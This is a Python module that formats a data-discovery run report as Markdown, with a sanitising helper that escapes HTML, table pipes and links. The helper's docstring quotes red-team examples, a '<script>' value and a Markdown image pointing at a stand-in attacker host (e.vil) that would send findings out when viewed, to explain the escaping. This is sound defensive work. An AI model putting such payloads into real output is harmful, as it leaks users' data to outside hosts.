"""The run report in Markdown (the Prefect artifact and `assay report --md`)."""

from __future__ import annotations

from collections import defaultdict

from ..models import DiscoveryResult, Insight, ValidationStatus
from .claims import checked_summary, claim_line, insight_notes
from .text import without_controls

BADGE = {
    ValidationStatus.confirmed: "✅ confirmed",
    ValidationStatus.adjusted: "🟠 adjusted",
    ValidationStatus.rejected: "❌ rejected",
    ValidationStatus.error: "⚠️ not verified (error)",
    ValidationStatus.not_verifiable: "➖ no number checked",
}
SEVERITY_ORDER = {"critical": 0, "high": 1, "medium": 2, "low": 3}


def _md(text: str) -> str:
    """Prose from the warehouse or a model as Markdown shows it: table pipes and HTML escaped (a category value
    "<script>" reached the Markdown report and the Prefect artifact as a tag: session 23's red team), and no link or
    image (``![](https://e.vil/p.png?d=...)`` would have a viewer fetch a URL that carries the findings: red team
    10): backslashes, a bracket before a parenthesis and an image's ``![`` are escaped, so "[confirmed] share"
    still reads as written in the file. Only ``<`` opens a tag: ``>`` and ``&`` stay as written, so that a count's
    SQL reads ``refunded_at >= '2026-07-01'``, not ``&gt;=`` (a new user, session 27)."""
    text = without_controls(text or "").replace("<", "&lt;").replace("\\", "\\\\")
    return text.replace("](", "\\](").replace("![", "!\\[").replace("|", "\\|").replace("\n", " ")


def validation_line(i: Insight) -> str:
    v = i.validation
    if v is None:
        return "unverified"
    badge = BADGE[v.status]
    if v.refutation and v.status in (ValidationStatus.confirmed, ValidationStatus.adjusted):
        badge = f"{badge}, {_md(v.refutation)}"
    if v.status == ValidationStatus.adjusted:
        return f"{badge}: claimed {v.claimed_count:,}, warehouse says {v.verified_count:,}"
    if v.status in (ValidationStatus.confirmed, ValidationStatus.rejected) and v.verified_count is not None:
        return f"{badge}: claimed {v.claimed_count:,}, warehouse says {v.verified_count:,}"
    return badge


def links(r: DiscoveryResult) -> tuple[dict[str, list[str]], dict[str, list[Insight]]]:
    """The recommendations addressing each insight, and the insights of each area, most severe first: the areas by
    their most severe insight (then the run's order), each area's insights by severity (then id). The terminal, the
    Markdown and the HTML report read them in this one order."""
    recs_for: dict[str, list[str]] = defaultdict(list)
    for rec in r.recommendations:
        for iid in rec.related_insight_ids:
            recs_for[iid].append(rec.id)
    groups: dict[str, list[Insight]] = defaultdict(list)
    for i in r.insights:
        groups[i.area].append(i)

    def rank(i: Insight) -> int:
        return SEVERITY_ORDER.get(i.severity.value, 9)

    # sorted() is stable: areas of one severity keep the run's order
    by_area = {a: sorted(groups[a], key=lambda i: (rank(i), i.id))
               for a in sorted(groups, key=lambda a: min(rank(i) for i in groups[a]))}
    return recs_for, by_area


def render_markdown(r: DiscoveryResult) -> str:
    out = [f"# Discovery {r.run_id[:8]} · {r.project_id}", ""]
    out.append(f"**Run type:** {r.run_type.value} · **analyst:** {r.analyst} · **steps:** {r.total_steps} · "
               f"**insights:** {len(r.insights)} · **recommendations:** {len(r.recommendations)} · "
               f"**duration:** {r.duration_s:.0f}s")
    if r.errors:
        out += ["", "> **Errors**"] + [f"> - {_md(e)}" for e in r.errors]
    recs_for, by_area = links(r)
    out += ["", "## Insights", ""]
    if not r.insights:
        out.append("_No insights: the run failed (its errors are above)._" if r.run_type.value == "failed"
                   else "_No insights._")
    else:
        out.append(f"_{checked_summary(r.insights)}_")
    for area in by_area:
        out += ["", f"### {area}"]
        for i in by_area[area]:
            dup = f" · repeats {i.duplicate_of}" if i.duplicate_of else ""
            out.append(f"- **{i.id}** [{i.severity.value}] **{_md(i.name)}**{dup}")
            out.append(f"  - {_md(i.description)}")
            count = f"{i.affected_count:,}" if i.affected_count is not None else "n/a"
            out.append(f"  - affected: {count} · {validation_line(i)} · steps: "
                       f"{', '.join(map(str, i.source_steps)) or '-'}")
            for note in insight_notes(i):
                out.append(f"  - {_md(note)}")
            for c in i.claims:
                out.append(f"  - {_md(claim_line(c))}")
            if recs_for.get(i.id):
                out.append(f"  - addressed by: {', '.join(recs_for[i.id])}")
    quiet = [log for log in r.analysis_log if log.ok and log.note and log.area not in by_area]
    if quiet:
        out += ["", "_Areas without insights:_"] + [f"- {log.area}: {_md(log.note)}" for log in quiet]
    if r.context_notes:
        out += ["", "## Context notes", "",
                "_Results the analysis reported that are context, not findings: a comparison that shows no "
                "difference, or a fact of the data's shape._"]
        out += [f"- **{_md(i.name)}** ({i.area}): {_md(i.description)} · _{_md(i.context_reason or '')}_"
                for i in r.context_notes]
    if r.uncovered_leads:
        out += ["", "## Leads no insight covers", "",
                "_Candidates the statistical scan flagged before exploration that no insight or context note takes "
                "up: unverified, listed so that none is lost._"]
        out += [f"- {_md(lead)}" for lead in r.uncovered_leads]
    out += ["", "## Recommendations"]
    if r.recommendation_note:
        out.append(f"_{_md(r.recommendation_note)}_")
    elif not r.recommendations:
        out.append("_No recommendations._")
    for rec in sorted(r.recommendations, key=lambda x: (x.priority, x.id)):
        out.append(f"- **{rec.id}** (priority {rec.priority}, effort {_md(rec.effort) or '?'}) **{_md(rec.title)}**")
        if rec.description:
            out.append(f"  - {_md(rec.description)}")
        if rec.target_segment:
            size = f" ({rec.segment_size:,})" if rec.segment_size else ""
            out.append(f"  - target: {_md(rec.target_segment)}{size}")
        if rec.expected_impact.metric:
            out.append(f"  - impact: {_md(rec.expected_impact.metric)} {_md(rec.expected_impact.estimated_improvement)}")
        out.append(f"  - addresses: {_md(', '.join(rec.related_insight_ids)) or '-'}")
    return "\n".join(out) + "\n"
